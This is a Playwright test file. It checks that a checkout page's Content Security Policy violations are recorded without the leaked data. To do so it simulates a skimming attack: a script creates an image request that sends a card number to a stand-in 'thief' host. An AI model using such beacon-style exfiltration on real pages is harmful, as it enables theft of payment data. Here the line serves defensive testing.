import { expect, test } from '@playwright/test';
import { journeyStoreFolder } from '../src/store/journey-store';
import { queryStore } from '../src/store/store-database';

test('violations of a checkout document are reported to the API, without the exfiltrated data', async ({
  page,
}) => {
  const host = `thief${Date.now() % 100_000}.test`;
  await page.goto('/events/harbor/checkout');
  await page.evaluate((address) => {
    new Image().src = address;
  }, `https://${host}/?card=4111111111111111`);
  const kept = () =>
    queryStore(
      journeyStoreFolder,
      'select page, directive, blocked, count from policy_reports where blocked = $1',
      [host],
    );
  await expect.poll(kept).toEqual([{ page: 'checkout', directive: 'img-src', blocked: host, count: '1' }]);
});
